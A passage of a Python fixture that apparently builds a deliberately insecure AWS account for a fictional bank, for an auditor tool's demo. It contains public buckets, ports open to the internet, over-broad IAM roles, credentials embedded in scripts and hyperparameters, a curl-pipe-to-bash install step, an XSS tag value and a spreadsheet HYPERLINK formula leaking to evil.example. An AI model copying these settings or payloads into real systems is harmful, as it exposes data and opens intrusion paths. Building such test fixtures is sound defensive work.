"""The account that `auditor demo` scans: the ML platform of a bank that does not exist.

Everything is a table; `fill` turns the tables into calls. A text `@key/ml-data` in a table
stands for the id that AWS gives the thing when it is created. What looks like a credential
is derived at run time from a word, so that the repository holds no secret, not even a false one.
"""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

ACCOUNT = "111122223333"
PARTNER = "444455556666"
EU, US = "eu-west-1", "us-east-1"
REGIONS = (EU, US)
ENABLED_REGIONS = (
    "us-east-1", "us-east-2", "us-west-1", "us-west-2", "ca-central-1", "sa-east-1",
    "eu-central-1", "eu-west-1", "eu-west-2", "eu-west-3", "eu-north-1", "ap-south-1",
    "ap-northeast-1", "ap-northeast-2", "ap-northeast-3", "ap-southeast-1", "ap-southeast-2",
)  # fmt: skip
"""The regions that are on in an account that asked for none."""
MACIE_REGIONS = (EU,)
MACIE_UNWATCHED = ("meridian-churn-exports",)
FOREIGN_BUCKETS = ("clickwise-session-exports",)
"""Buckets that exist, in somebody else's account."""
MFA_DELETE_BUCKETS = ("meridian-cloudtrail-logs",)

Data = dict[str, Any]
Clients = Callable[[str, str], Any]
"""A service and a region → its boto3 client."""
DAY = timedelta(days=1)


def derived(word: str, length: int, alphabet: str = "") -> str:
    """Return ``length`` characters that look random and are always the same for ``word``."""
    raw = hashlib.sha512(word.encode()).digest()
    if alphabet:
        return "".join(alphabet[byte % len(alphabet)] for byte in raw[:length])
    return base64.b64encode(raw).decode()[:length]


ACCESS_KEY_ID = "AKIA" + derived("churn-etl", 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
SECRET_ACCESS_KEY = derived("churn-etl-secret", 40)
DATABASE_PASSWORD = derived("warehouse", 18, "abcdefghkmnpqrstuvwxyz23456789")
DATABASE_URL = f"postgresql://churn_ro:{DATABASE_PASSWORD}@warehouse.meridian.example:5432/customers"
REGISTRY_TOKEN = "ghp_" + derived("registry", 36, "abcdefghijklmnopqrstuvwxyzABCDEFGHJKLMNPQRST01")
SECRETS = (ACCESS_KEY_ID, SECRET_ACCESS_KEY, DATABASE_PASSWORD, REGISTRY_TOKEN)
"""What must reach no report, no terminal and no disk."""
EXAMPLE_KEY_ID = "AKIA" + "IOSFODNN7" + "EXAMPLE"  # the one of AWS's documentation: no secret

TEAMS = {
    "fraud": "fraud-detection@meridian.example",
    "churn": "customer-analytics@meridian.example",
    "credit": "credit-risk@meridian.example",
    "demand": "demand-forecast@meridian.example",
    "platform": "ml-platform@meridian.example",
}


def tags(team: str, env: str = "prod", **more: str) -> list[dict[str, str]]:
    """Return the tags that the bank's rules ask for."""
    pairs = {"owner": TEAMS[team], "env": env, "cost-centre": f"cc-{len(team)}40{len(env)}", **more}
    return [{"Key": key, "Value": value} for key, value in pairs.items()]


def role_arn(name: str) -> str:
    """Return the ARN of a role of the account."""
    return f"arn:aws:iam::{ACCOUNT}:role/{name}"


def document(*statements: Data) -> str:
    """Return a policy document as AWS takes it."""
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)})


def allow(actions: list[str] | str, resources: list[str] | str, **more: Any) -> Data:
    """Return a statement that allows."""
    return {"Effect": "Allow", "Action": actions, "Resource": resources, **more}


# --- keys: alias, region, what it is for, rotation, fate ----------------------------------------

KEYS: list[tuple[str, str, str, bool, str]] = [
    ("ml-data", EU, "Training data and models", True, ""),
    ("ml-notebooks", EU, "Volumes of notebook instances", True, ""),
    ("ml-capture", EU, "Captured inference data", False, ""),
    ("credit-legacy", EU, "Credit risk until 2024", False, "disable_key"),
    ("credit-poc", EU, "Credit risk proof of concept", False, "schedule_key_deletion"),
    ("cloudtrail", EU, "CloudTrail logs", True, ""),
    ("ml-data-us", US, "Training data and models", True, ""),
    ("forecast-volumes", US, "Volumes of the forecast team", False, ""),
]

# --- network: VPCs, their subnets by route table, security groups -------------------------------

NETWORKS: dict[str, Data] = {
    EU: {
        "name": "ml-platform",
        "cidr": "10.40.0.0/16",
        "private": {"private-a": ("10.40.1.0/24", "a"), "private-b": ("10.40.2.0/24", "b")},
        "public": {"public-a": ("10.40.101.0/24", "a")},
    },
    US: {
        "name": "forecast",
        "cidr": "10.60.0.0/16",
        "private": {"private-a": ("10.60.1.0/24", "a")},
        "public": {"public-a": ("10.60.101.0/24", "a")},
    },
}

ANYWHERE = [{"CidrIp": "0.0.0.0/0", "Description": "temporary, remove after the workshop"}]
INSIDE = [{"CidrIp": "10.40.0.0/16"}]


def port(number: int, ranges: list[dict[str, str]]) -> Data:
    """Return the permission to reach one TCP port."""
    return {"IpProtocol": "tcp", "FromPort": number, "ToPort": number, "IpRanges": ranges}


SECURITY_GROUPS: list[tuple[str, str, str, list[Data]]] = [
    # name, region, "vpc" (ours) or "default-vpc", ingress
    ("ml-workloads", EU, "vpc", [port(443, INSIDE)]),
    ("ml-endpoints", EU, "vpc", [port(443, INSIDE)]),
    ("jupyter-workshop", EU, "default-vpc", [port(8888, ANYWHERE), port(22, ANYWHERE)]),
    ("forecast-jobs", US, "vpc", []),
    ("forecast-notebooks", US, "vpc", [port(22, ANYWHERE)]),
]

VPC_ENDPOINTS: list[tuple[str, str, str]] = [
    # region, service, whose work may pass: "" for everybody's
    (EU, "s3", ACCOUNT),
    (EU, "sagemaker.runtime", ""),
    (US, "s3", ""),
]
FLOW_LOGS = ((EU, "meridian-access-logs"),)

# --- roles: trust, managed policies, inline policies, boundary ----------------------------------


def trust(principal: Data, **more: Any) -> str:
    """Return a trust policy."""
    return document({"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole", **more})


SAGEMAKER = trust({"Service": "sagemaker.amazonaws.com"})
SAGEMAKER_OURS = trust(
    {"Service": "sagemaker.amazonaws.com"},
    Condition={"StringEquals": {"aws:SourceAccount": ACCOUNT}},
)


def bucket_access(*names: str) -> Data:
    """Return a statement that allows work in the buckets named, and nowhere else."""
    return allow(
        ["s3:GetObject", "s3:PutObject", "s3:ListBucket"],
        [f"arn:aws:s3:::{name}{tail}" for name in names for tail in ("", "/*")],
    )


LOGS = allow(
    ["logs:CreateLogStream", "logs:PutLogEvents"],
    f"arn:aws:logs:*:{ACCOUNT}:log-group:/aws/sagemaker/*",
)
SECRETS_OF_FRAUD = allow(
    "secretsmanager:GetSecretValue", f"arn:aws:secretsmanager:{EU}:{ACCOUNT}:secret:fraud/*"
)
PASS_OWN = allow(
    "iam:PassRole",
    role_arn("MeridianFraudTraining"),
    Condition={"StringEquals": {"iam:PassedToService": "sagemaker.amazonaws.com"}},
)
S3_EVERYWHERE = allow("s3:*", "*")
PASS_ANYTHING = allow("iam:PassRole", "*")
ASSUME_ANYTHING = allow("sts:AssumeRole", "*")

POLICIES: dict[str, str] = {
    "MeridianMLBoundary": document(
        allow(["s3:*", "sagemaker:*", "logs:*", "kms:*", "ecr:*", "secretsmanager:*"], "*"),
        {"Effect": "Deny", "Action": ["iam:*", "organizations:*"], "Resource": "*"},
    ),
    "MeridianContainerPull": document(
        allow("ecr:GetAuthorizationToken", "*"),
        allow(
            ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"],
            f"arn:aws:ecr:*:{ACCOUNT}:repository/meridian/*",
        ),
    ),
}
AWS_POLICIES = ("AdministratorAccess", "AmazonSageMakerFullAccess", "SecurityAudit")
PULL = f"arn:aws:iam::{ACCOUNT}:policy/MeridianContainerPull"
BOUNDARY = f"arn:aws:iam::{ACCOUNT}:policy/MeridianMLBoundary"

ROLES: dict[str, Data] = {
    "MeridianFraudTraining": {
        "trust": SAGEMAKER_OURS,
        "managed": [PULL],
        "inline": [bucket_access("meridian-fraud-training", "meridian-fraud-models"), LOGS],
        "boundary": BOUNDARY,
        "team": "fraud",
    },
    "MeridianFraudNotebook": {
        "trust": SAGEMAKER_OURS,
        "managed": [PULL],
        "inline": [bucket_access("meridian-fraud-training"), SECRETS_OF_FRAUD, PASS_OWN, LOGS],
        "boundary": BOUNDARY,
        "team": "fraud",
    },
    "MeridianFraudInference": {
        "trust": SAGEMAKER_OURS,
        "managed": [PULL],
        "inline": [bucket_access("meridian-fraud-models", "meridian-inference-capture"), LOGS],
        "boundary": BOUNDARY,
        "team": "fraud",
    },
    "MeridianCreditRisk": {
        "trust": SAGEMAKER,
        "managed": [PULL],
        "inline": [bucket_access("meridian-credit-risk", "meridian-fraud-models"), LOGS],
        "team": "credit",
    },
    "churn-sagemaker-admin": {
        "trust": SAGEMAKER,
        "managed": ["arn:aws:iam::aws:policy/AdministratorAccess"],
        "team": "churn",
    },
    "ForecastExecution": {
        "trust": SAGEMAKER,
        "managed": ["arn:aws:iam::aws:policy/AmazonSageMakerFullAccess"],
        "inline": [S3_EVERYWHERE, PASS_ANYTHING, LOGS],
        "team": "demand",
    },
    "AmazonSageMaker-ExecutionRole-20230118T094512": {
        "trust": SAGEMAKER,
        "inline": [ASSUME_ANYTHING, PASS_ANYTHING, S3_EVERYWHERE],
        "team": "credit",
    },
    "SecurityAudit": {
        "trust": trust({"AWS": f"arn:aws:iam::{ACCOUNT}:root"}),
        "managed": ["arn:aws:iam::aws:policy/SecurityAudit"],
        "team": "platform",
    },
}

# --- buckets: region, policy, and one call per setting ------------------------------------------

OWNER = "75aa57f09aa0c8caeab4f8c24e99d10f8e7faeebf76c078efc7c6caea54ba06a"
"""The account as S3's ACLs know it."""
BLOCKED = dict.fromkeys(
    ("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"), True
)
ACCOUNT_BLOCK = {**BLOCKED, "IgnorePublicAcls": False, "RestrictPublicBuckets": False}
"""New public buckets are refused; those that were public before are left as they are."""


def versioned(status: str = "Enabled") -> Data:
    """Return the setting that keeps versions."""
    return {"put_bucket_versioning": {"VersioningConfiguration": {"Status": status}}}


def kms(key: str) -> Data:
    """Return the setting that encrypts with a key."""
    default = {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": key}
    rule = {"ApplyServerSideEncryptionByDefault": default, "BucketKeyEnabled": True}
    return {"put_bucket_encryption": {"ServerSideEncryptionConfiguration": {"Rules": [rule]}}}


def owned(value: str) -> Data:
    """Return the setting that says whether ACLs count."""
    rule = {"ObjectOwnership": value}
    return {"put_bucket_ownership_controls": {"OwnershipControls": {"Rules": [rule]}}}


def opened(*permissions: str) -> Data:
    """Return the setting that lets everybody in."""
    everybody = {"Type": "Group", "URI": "http://acs.amazonaws.com/groups/global/AllUsers"}
    grants = [{"Grantee": everybody, "Permission": each} for each in permissions]
    own = {"Grantee": {"Type": "CanonicalUser", "ID": OWNER}, "Permission": "FULL_CONTROL"}
    policy = {"Owner": {"ID": OWNER}, "Grants": [own, *grants]}
    return {"put_bucket_acl": {"AccessControlPolicy": policy}}


def logged(prefix: str) -> Data:
    """Return the setting that logs every access."""
    target = {"TargetBucket": "meridian-access-logs", "TargetPrefix": f"{prefix}/"}
    return {"put_bucket_logging": {"BucketLoggingStatus": {"LoggingEnabled": target}}}


def expiring(**rule: Any) -> Data:
    """Return the setting that tidies up."""
    rules = [{"ID": "tidy", "Status": "Enabled", "Filter": {"Prefix": ""}, **rule}]
    return {"put_bucket_lifecycle_configuration": {"LifecycleConfiguration": {"Rules": rules}}}


BLOCK: Data = {"put_public_access_block": {"PublicAccessBlockConfiguration": BLOCKED}}
ENFORCED: Data = owned("BucketOwnerEnforced")
TIDY: Data = expiring(
    NoncurrentVersionExpiration={"NoncurrentDays": 180},
    AbortIncompleteMultipartUpload={"DaysAfterInitiation": 7},
)
EVENTS: Data = {
    "put_bucket_notification_configuration": {
        "NotificationConfiguration": {"EventBridgeConfiguration": {}}
    }
}
REPLICATED: Data = {
    "put_bucket_replication": {
        "ReplicationConfiguration": {
            "Role": role_arn("MeridianFraudTraining"),
            "Rules": [
                {
                    "ID": "to-the-other-continent",
                    "Status": "Enabled",
                    "Priority": 1,
                    "Filter": {"Prefix": ""},
                    "DeleteMarkerReplication": {"Status": "Disabled"},
                    "Destination": {"Bucket": "arn:aws:s3:::meridian-fraud-models-replica"},
                }
            ],
        }
    }
}
LOCKED: Data = {
    "put_object_lock_configuration": {
        "ObjectLockConfiguration": {
            "ObjectLockEnabled": "Enabled",
            "Rule": {"DefaultRetention": {"Mode": "COMPLIANCE", "Days": 365}},
        }
    }
}
WEBSITE: Data = {
    "put_bucket_website": {"WebsiteConfiguration": {"IndexDocument": {"Suffix": "index.html"}}}
}

TLS_ONLY = {
    "Sid": "TlsOnly",
    "Effect": "Deny",
    "Principal": "*",
    "Action": "s3:*",
    "Resource": ["arn:aws:s3:::{bucket}", "arn:aws:s3:::{bucket}/*"],
    "Condition": {"Bool": {"aws:SecureTransport": "false"}},
}
OWN_KEY_ONLY = {
    "Sid": "OwnKeyOnly",
    "Effect": "Deny",
    "Principal": "*",
    "Action": "s3:PutObject",
    "Resource": "arn:aws:s3:::{bucket}/*",
    "Condition": {
        "StringNotEquals": {"s3:x-amz-server-side-encryption-aws-kms-key-id": "@key/ml-data"}
    },
}


def granted(principal: Any, action: Any, **more: Any) -> Data:
    """Return a statement of a bucket policy that allows."""
    where = ["arn:aws:s3:::{bucket}", "arn:aws:s3:::{bucket}/*"]
    return {
        "Effect": "Allow", "Principal": principal, "Action": action, "Resource": where, **more
    }  # fmt: skip


PUBLIC_READ = granted("*", ["s3:GetObject", "s3:ListBucket"])
PARTNER_ADMIN = granted(
    {"AWS": f"arn:aws:iam::{PARTNER}:root"},
    ["s3:GetObject", "s3:PutBucketPolicy", "s3:DeleteBucketPolicy"],
)
ENDPOINT_ONLY = granted(
    "*", "s3:GetObject", Condition={"StringEquals": {"aws:PrincipalOrgID": "o-meridian01"}}
)
TRAIL_WRITE = {
    "Effect": "Allow",
    "Principal": {"Service": "cloudtrail.amazonaws.com"},
    "Action": ["s3:GetBucketAcl", "s3:PutObject"],
    "Resource": ["arn:aws:s3:::{bucket}", "arn:aws:s3:::{bucket}/*"],
}
LOG_DELIVERY = {
    "Effect": "Allow",
    "Principal": {"Service": "logging.s3.amazonaws.com"},
    "Action": ["s3:PutObject"],
    "Resource": "arn:aws:s3:::{bucket}/*",
    "Condition": {"StringEquals": {"aws:SourceAccount": ACCOUNT}},
}
SOUND: Data = {**BLOCK, **ENFORCED, **versioned(), **TIDY}

BUCKETS: list[tuple[str, str, str, list[Data], Data]] = [
    # name, region, team, policy, settings
    ("meridian-access-logs", EU, "platform", [LOG_DELIVERY, TLS_ONLY],
     {**SOUND, **EVENTS}),
    ("meridian-cloudtrail-logs", EU, "platform", [TLS_ONLY, TRAIL_WRITE],
     {**SOUND, **LOCKED, **kms("@key/cloudtrail"), **logged("cloudtrail")}),
    ("meridian-legacy-audit", US, "platform", [TRAIL_WRITE, PUBLIC_READ], owned("ObjectWriter")),
    ("meridian-fraud-models-replica", US, "fraud", [TLS_ONLY], {**SOUND, **kms("@key/ml-data-us")}),
    ("meridian-fraud-training", EU, "fraud", [TLS_ONLY, OWN_KEY_ONLY],
     {**SOUND, **EVENTS, **kms("@key/ml-data"), **logged("fraud-training")}),
    ("meridian-fraud-models", EU, "fraud", [TLS_ONLY, OWN_KEY_ONLY],
     {**SOUND, **LOCKED, **EVENTS, **REPLICATED, **kms("@key/ml-data"), **logged("fraud-models")}),
    ("meridian-inference-capture", EU, "platform", [TLS_ONLY],
     {**SOUND, **kms("@key/ml-capture"), **logged("capture")}),
    ("meridian-credit-risk", EU, "credit", [TLS_ONLY, ENDPOINT_ONLY],
     {**BLOCK, **ENFORCED, **versioned(), **kms("alias/aws/s3")}),
    ("meridian-churn-exports", EU, "churn", [], {}),
    ("meridian-churn-uploads", EU, "churn", [],
     {**owned("ObjectWriter"), **opened("READ", "WRITE")}),
    ("meridian-research-datasets", EU, "platform", [PUBLIC_READ], {**ENFORCED, **WEBSITE}),
    ("meridian-shared-features", EU, "platform", [TLS_ONLY, PARTNER_ADMIN],
     {**BLOCK, **owned("BucketOwnerPreferred"), **versioned("Suspended"),
      **expiring(Expiration={"Days": 30})}),
    (f"sagemaker-{EU}-{ACCOUNT}", EU, "platform", [], {**BLOCK, **ENFORCED}),
    (f"sagemaker-{US}-{ACCOUNT}", US, "demand", [], {**BLOCK}),
    ("meridian-demand-history", US, "demand", [],
     {**owned("ObjectWriter"), **versioned(), "put_bucket_acl": {"ACL": "authenticated-read"}}),
]  # fmt: skip

ACCESS_POINTS: list[tuple[str, str, str, dict[str, bool]]] = [
    ("fraud-features", EU, "meridian-fraud-training", BLOCKED),
    ("churn-handover", EU, "meridian-churn-exports", dict.fromkeys(BLOCKED, False)),
]

# --- trails -------------------------------------------------------------------------------------


def selector(name: str, **fields: list[str]) -> Data:
    """Return an advanced event selector; `__` in a field's name stands for a dot."""
    chosen = [
        {"Field": field.replace("__", "."), "StartsWith" if field.endswith("ARN") else "Equals": to}
        for field, to in fields.items()
    ]
    return {"Name": name, "FieldSelectors": chosen}


LOG_GROUP = f"arn:aws:logs:{EU}:{ACCOUNT}:log-group:aws-cloudtrail-logs:*"
TRAILS: list[tuple[str, Data, list[Data], bool]] = [
    # region, CreateTrail, advanced selectors, logging with Insights
    (EU, {
        "Name": "meridian-trail",
        "S3BucketName": "meridian-cloudtrail-logs",
        "IsMultiRegionTrail": True,
        "EnableLogFileValidation": True,
        "KmsKeyId": "@key/cloudtrail",
        "CloudWatchLogsLogGroupArn": LOG_GROUP,
        "CloudWatchLogsRoleArn": role_arn("CloudTrailToCloudWatch"),
        "TagsList": tags("platform"),
     }, [
        selector("Management events", eventCategory=["Management"]),
        selector("Objects of the fraud team", eventCategory=["Data"],
                 resources__type=["AWS::S3::Object"],
                 resources__ARN=["arn:aws:s3:::meridian-fraud", "arn:aws:s3:::meridian-credit"]),
        selector("Calls to endpoints", eventCategory=["Data"],
                 resources__type=["AWS::SageMaker::Endpoint"]),
     ], True),
    (US, {
        "Name": "legacy-audit",
        "S3BucketName": "meridian-legacy-audit",
        "IsMultiRegionTrail": False,
        "TagsList": tags("platform", "legacy"),
     }, [], False),
]  # fmt: skip

# --- notebooks ----------------------------------------------------------------------------------


def script(*lines: str) -> list[dict[str, str]]:
    """Return a lifecycle script as SageMaker takes it."""
    text = "\n".join(("#!/bin/bash", "set -euo pipefail", *lines, ""))
    return [{"Content": base64.b64encode(text.encode()).decode()}]


LIFECYCLES: list[tuple[str, str, Data]] = [
    ("ml-baseline", EU, {"OnStart": script(
        "# Stop when idle; credentials come from Secrets Manager and are never written down.",
        "DB_PASSWORD=$(aws secretsmanager get-secret-value --secret-id fraud/feature-store"
        " --query SecretString --output text)",
        'psql "host=features.meridian.example user=fraud" <<<"$DB_PASSWORD" >/dev/null',
        'echo "*/5 * * * * /usr/bin/python /opt/autostop.py --time 3600" | crontab -')}),
    ("churn-setup", EU, {"OnCreate": script(
        f"export AWS_ACCESS_KEY_ID={ACCESS_KEY_ID}",
        f"export AWS_SECRET_ACCESS_KEY={SECRET_ACCESS_KEY}",
        "aws s3 sync s3://meridian-churn-exports /home/ec2-user/SageMaker/exports"),
        "OnStart": script("pip install --quiet lifelines==0.30.0")}),
    ("forecast-bootstrap", US, {"OnStart": script(
        f"# usage: AWS_ACCESS_KEY_ID={EXAMPLE_KEY_ID} ./bootstrap.sh",
        "curl -sSL http://get.forecast-tools.example/install.sh | bash")}),
]  # fmt: skip


def notebook(role: str, team: str, env: str = "dev", **more: Any) -> Data:
    """Return CreateNotebookInstance's parameters; a notebook knows no default that protects it."""
    base = {"InstanceType": "ml.t3.xlarge", "RoleArn": role_arn(role), "VolumeSizeInGB": 50}
    return {**base, "Tags": tags(team, env), **more}


HARDENED: Data = {
    "SubnetId": "@subnet/private-a",
    "SecurityGroupIds": ["@sg/ml-workloads"],
    "DirectInternetAccess": "Disabled",
    "RootAccess": "Disabled",
    "KmsKeyId": "@key/ml-notebooks",
    "LifecycleConfigName": "ml-baseline",
    "PlatformIdentifier": "notebook-al2023-v1",
    "InstanceMetadataServiceConfiguration": {"MinimumInstanceMetadataServiceVersion": "2"},
}
IMDS_V1 = {"MinimumInstanceMetadataServiceVersion": "1"}
LEGACY_ROLE = "AmazonSageMaker-ExecutionRole-20230118T094512"

NOTEBOOKS: dict[tuple[str, str], Data] = {
    (EU, "fraud-research"): notebook("MeridianFraudNotebook", "fraud", "prod", **HARDENED),
    (EU, "fraud-feature-lab"): notebook("MeridianFraudNotebook", "fraud", **HARDENED),
    (EU, "churn-exploration"): notebook(
        "churn-sagemaker-admin", "churn",
        RootAccess="Enabled",
        DirectInternetAccess="Enabled",
        LifecycleConfigName="churn-setup",
        PlatformIdentifier="notebook-al1-v1",
    ),
    (EU, "churn-dashboards"): notebook(
        "churn-sagemaker-admin", "churn",
        RootAccess="Enabled",
        PlatformIdentifier="notebook-al2-v2",
        InstanceMetadataServiceConfiguration=IMDS_V1,
        Tags=tags("churn", "dev", note="<script>alert('churn')</script>"),
    ),
    (EU, "credit-risk-validation"): notebook(
        LEGACY_ROLE, "credit", "prod",
        **{**HARDENED, "KmsKeyId": "@key/credit-legacy", "RootAccess": "Enabled"},
    ),
    (EU, "credit-risk-sandbox"): notebook(
        "MeridianCreditRisk", "credit",
        SubnetId="@subnet/default-vpc",
        SecurityGroupIds=["@sg/jupyter-workshop"],
        DirectInternetAccess="Enabled",
        RootAccess="Enabled",
        KmsKeyId="@key/credit-poc",
        PlatformIdentifier="notebook-al2-v3",
    ),
    (US, "demand-forecast-dev"): notebook(
        "ForecastExecution", "demand",
        SubnetId="@subnet/private-a",
        SecurityGroupIds=["@sg/forecast-notebooks"],
        DirectInternetAccess="Enabled",
        RootAccess="Enabled",
        KmsKeyId="alias/aws/sagemaker",
        LifecycleConfigName="forecast-bootstrap",
        PlatformIdentifier="notebook-al2-v3",
        InstanceMetadataServiceConfiguration=IMDS_V1,
    ),
    (US, "demand-forecast-review"): notebook(
        "ForecastExecution", "demand", "prod",
        **{**HARDENED, "SecurityGroupIds": ["@sg/forecast-jobs"], "LifecycleConfigName": None,
           "KmsKeyId": "alias/forecast-volumes"},
    ),
}  # fmt: skip

# --- training jobs ------------------------------------------------------------------------------


def image(team: str, use: str, tag: str) -> str:
    """Return the image of a team's containers, in the registry where the team works."""
    home = US if team == "demand" else EU
    return f"{ACCOUNT}.dkr.ecr.{home}.amazonaws.com/meridian/{team}-{use}:{tag}"


def job(
    who: tuple[str, str, str, str], machine: str = "ml.m5.2xlarge", count: int = 1,
    volume_key: str = "", output_key: str = "", **more: Any,
) -> Data:  # fmt: skip
    """Return CreateTrainingJob's parameters; ``who``: role, team, bucket to read, to write."""
    role, team, data, output = who
    key = {"VolumeKmsKeyId": volume_key} if volume_key else {}
    machines: Data = {"InstanceType": machine, "InstanceCount": count, "VolumeSizeInGB": 100}
    source = {"S3DataType": "S3Prefix", "S3Uri": f"s3://{data}/train/"}
    return {
        "RoleArn": role_arn(role),
        "AlgorithmSpecification": {
            "TrainingImage": image(team, "training", "1.14"),
            "TrainingInputMode": "File",
        },
        "InputDataConfig": [{"ChannelName": "train", "DataSource": {"S3DataSource": source}}],
        "OutputDataConfig": {
            "S3OutputPath": f"s3://{output}/runs/",
            **({"KmsKeyId": output_key} if output_key else {}),
        },
        "ResourceConfig": {**machines, **key},
        "StoppingCondition": {"MaxRuntimeInSeconds": 14400},
        "HyperParameters": {"objective": "binary:logistic", "max_depth": "7", "eta": "0.08"},
        "Tags": tags(team),
        **more,
    }


FRAUD_JOB = ("MeridianFraudTraining", "fraud", "meridian-fraud-training", "meridian-fraud-models")
CHURN_JOB = ("churn-sagemaker-admin", "churn", "meridian-churn-exports", "meridian-churn-exports")
CREDIT_JOB = ("MeridianCreditRisk", "credit", "meridian-credit-risk", "meridian-credit-risk")
DEMAND_JOB = ("ForecastExecution", "demand", "meridian-demand-history", f"sagemaker-{US}-{ACCOUNT}")
IN_VPC: Data = {
    "VpcConfig": {
        "SecurityGroupIds": ["@sg/ml-workloads"],
        "Subnets": ["@subnet/private-a", "@subnet/private-b"],
    }
}
IN_US_VPC: Data = {
    "VpcConfig": {"SecurityGroupIds": ["@sg/forecast-jobs"], "Subnets": ["@subnet/private-a"]}
}
ISOLATED: Data = {"EnableNetworkIsolation": True}
BETWEEN: Data = {"EnableInterContainerTrafficEncryption": True}
OWN_KEYS: Data = {"volume_key": "@key/ml-data", "output_key": "@key/ml-data"}
SPOT: Data = {
    "EnableManagedSpotTraining": True,
    "StoppingCondition": {"MaxRuntimeInSeconds": 36000, "MaxWaitTimeInSeconds": 72000},
}

TRAINING: dict[tuple[str, str], Data] = {
    (EU, "fraud-xgboost-0411"): job(
        FRAUD_JOB, "ml.m5.4xlarge", 2, **OWN_KEYS, **IN_VPC, **ISOLATED, **BETWEEN),
    (EU, "fraud-xgboost-0412"): job(
        FRAUD_JOB, "ml.m5.4xlarge", 2, **OWN_KEYS, **IN_VPC, **ISOLATED, **BETWEEN),
    (EU, "fraud-graphnet-0037"): job(FRAUD_JOB, "ml.c5.9xlarge", 4, **OWN_KEYS, **IN_VPC),
    (EU, "fraud-embedding-0009"): job(
        FRAUD_JOB, "ml.g4dn.12xlarge", output_key="alias/ml-data", **IN_VPC, **ISOLATED),
    (EU, "churn-lightgbm-0161"): job(CHURN_JOB),
    (EU, "churn-lightgbm-0188"): job(
        CHURN_JOB,
        HyperParameters={"num_leaves": "63", "warehouse_url": DATABASE_URL},
        Environment={"STAGE": "exploration"}),
    (EU, "churn-survival-0021"): job(
        CHURN_JOB, "ml.m5.4xlarge", **SPOT,
        HyperParameters={"penalizer": "0.1", "git_token": REGISTRY_TOKEN}),
    (EU, "credit-risk-scorecard-0071"): job(
        (*CREDIT_JOB[:3], "meridian-credit-archive-2023"), **OWN_KEYS, **IN_VPC, **ISOLATED),
    (EU, "credit-risk-scorecard-0072"): job(
        CREDIT_JOB, **OWN_KEYS, **IN_VPC, **ISOLATED, **SPOT,
        CheckpointConfig={"S3Uri": "s3://meridian-credit-risk/checkpoints/"}),
    (EU, "credit-risk-nn-0015"): job(
        CREDIT_JOB, "ml.c5.9xlarge", 2, volume_key="@key/credit-legacy",
        output_key="@key/credit-legacy", **IN_VPC),
    (EU, "credit-risk-clickstream-0003"): job(
        ("MeridianCreditRisk", "credit", "clickwise-session-exports", "meridian-credit-risk"),
        output_key="@key/ml-data", **IN_VPC),
    (US, "demand-forecast-deepar-0301"): job(DEMAND_JOB, output_key="alias/aws/s3"),
    (US, "demand-forecast-deepar-0302"): job(
        DEMAND_JOB, "ml.c5.4xlarge", 3, volume_key="alias/ml-data-us",
        output_key="alias/ml-data-us", **BETWEEN, **IN_US_VPC),
    (US, "demand-forecast-prophet-0044"): job(
        DEMAND_JOB, **IN_US_VPC, **ISOLATED, ResourceConfig={
            "InstanceGroups": [
                {"InstanceGroupName": "driver", "InstanceType": "ml.m5.xlarge", "InstanceCount": 1},
                {"InstanceGroupName": "nodes", "InstanceType": "ml.c5.2xlarge", "InstanceCount": 2},
            ],
            "VolumeSizeInGB": 100, "VolumeKmsKeyId": "alias/ml-data-us",
        }),
    (US, "demand-forecast-tft-0008"): job(
        DEMAND_JOB, "ml.g5.12xlarge", 2, output_key="@key/ml-data-us", **IN_US_VPC,
        Tags=tags("demand", "dev", report='=HYPERLINK("http://evil.example/?leak","Open report")')),
}  # fmt: skip

# --- models, endpoint configurations, endpoints --------------------------------------------------


def container(team: str, bucket: str, tag: str = "2.3.1", **more: Any) -> Data:
    """Return a container that loads a model from a bucket."""
    return {
        "Image": image(team, "inference", tag),
        "ModelDataUrl": f"s3://{bucket}/{team}/model.tar.gz",
        **more,
    }


def model(role: str, team: str, *containers: Data, **more: Any) -> Data:
    """Return CreateModel's parameters."""
    what = {"PrimaryContainer": containers[0]} if len(containers) == 1 else {}
    many = {"Containers": list(containers)} if len(containers) > 1 else {}
    return {"ExecutionRoleArn": role_arn(role), "Tags": tags(team), **what, **many, **more}


FRAUD_MODEL = container("fraud", "meridian-fraud-models")
CHURN_MODEL = container(
    "churn", "meridian-churn-exports", "latest",
    Environment={"FEATURE_STORE_URL": DATABASE_URL, "SAGEMAKER_PROGRAM": "inference.py"},
)  # fmt: skip
CREDIT_MODELS = (
    container("credit-features", "meridian-credit-risk", ContainerHostname="features"),
    container("credit-scorecard", "meridian-credit-risk", ContainerHostname="score"),
)
DEMAND_MODEL = container("demand", f"sagemaker-{US}-{ACCOUNT}", "latest")

MODELS: dict[tuple[str, str], Data] = {
    (EU, "fraud-scorer-v12"): model(
        "MeridianFraudInference", "fraud", FRAUD_MODEL, **IN_VPC, **ISOLATED),
    (EU, "fraud-scorer-v13"): model(
        "MeridianFraudInference", "fraud", FRAUD_MODEL, **IN_VPC, **ISOLATED),
    (EU, "churn-ranker-v4"): model("churn-sagemaker-admin", "churn", CHURN_MODEL),
    (EU, "credit-scorecard-v7"): model("MeridianCreditRisk", "credit", *CREDIT_MODELS, **IN_VPC),
    (EU, "credit-scorecard-v5"): model(
        LEGACY_ROLE, "credit", container("credit-scorecard", "meridian-credit-archive-2023")),
    (US, "demand-deepar-v21"): model("ForecastExecution", "demand", DEMAND_MODEL, **IN_US_VPC),
    (US, "demand-tft-v2"): model("ForecastExecution", "demand", DEMAND_MODEL),
}  # fmt: skip


def variant(of: str, name: str = "AllTraffic", count: int = 1, weight: float = 1.0,
            machine: str = "ml.m5.xlarge") -> Data:  # fmt: skip
    """Return a production variant on instances."""
    return {"VariantName": name, "ModelName": of, "InitialInstanceCount": count,
            "InstanceType": machine, "InitialVariantWeight": weight}  # fmt: skip


def capture(key: str = "", enabled: bool = True) -> Data:
    """Return the setting that keeps requests and answers."""
    return {"DataCaptureConfig": {
        "EnableCapture": enabled,
        "InitialSamplingPercentage": 20,
        "DestinationS3Uri": "s3://meridian-inference-capture/",
        "CaptureOptions": [{"CaptureMode": "Input"}, {"CaptureMode": "Output"}],
